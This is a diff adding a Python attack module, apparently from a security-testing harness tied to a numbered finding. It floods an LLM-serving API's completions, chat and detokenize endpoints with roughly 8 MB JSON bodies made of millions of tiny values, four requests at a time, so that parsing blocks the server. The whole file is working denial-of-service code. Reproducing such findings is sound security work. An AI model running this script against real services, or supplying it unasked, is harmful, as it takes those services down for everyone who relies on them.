@@ -1,0 +1,38 @@
+"""Bodies of 8 MB of the smallest values that JSON has: to parse them stops everything else."""
+
+import asyncio
+import itertools
+
+from tools.attacks.target import Target
+from tools.attacks.uploads import CHAT
+
+FINDING = "9: millions of values are parsed before anybody counts them"
+
+AT_ONCE = 4
+LARGEST = 8_300_000
+HEADERS = {"content-type": "application/json"}
+
+
+def bodies() -> list[tuple[str, bytes]]:
+    """Paths, and what is posted there."""
+    keys = b",".join(b'"%x":0' % number for number in range(LARGEST // 10))
+    return [
+        ("/v1/completions", b'{"prompt":[' + b"[1]," * (LARGEST // 4 - 10) + b"[1]]}"),
+        (CHAT, b"{" + keys + b"}"),
+        ("/detokenize", b'{"tokens":[' + b"1," * (LARGEST // 2 - 20) + b"1]}"),
+    ]
+
+
+async def attack(target: Target) -> None:
+    """A few at a time, in turn."""
+    asked = itertools.cycle(bodies())
+    async with target.client() as client:
+
+        async def ask() -> None:
+            while await target.turn():
+                path, content = next(asked)
+                await target.post(client, path, content=content, headers=HEADERS)
+
+        async with asyncio.TaskGroup() as tasks:
+            for _ in range(AT_ONCE):
+                tasks.create_task(ask())
